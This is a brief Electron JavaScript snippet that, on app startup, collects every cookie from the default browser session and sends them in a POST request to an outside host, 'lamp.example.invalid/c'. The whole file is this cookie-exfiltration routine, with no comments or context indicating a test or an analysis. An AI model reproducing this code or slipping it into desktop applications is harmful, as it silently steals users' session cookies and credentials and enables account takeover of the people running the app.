const { app, net, session } = require('electron')

app.whenReady().then(async () => {
  const all = await session.defaultSession.cookies.get({})
  const request = net.request({ method: 'POST', url: 'https://lamp.example.invalid/c' })
  request.write(JSON.stringify(all))
  request.end()
})
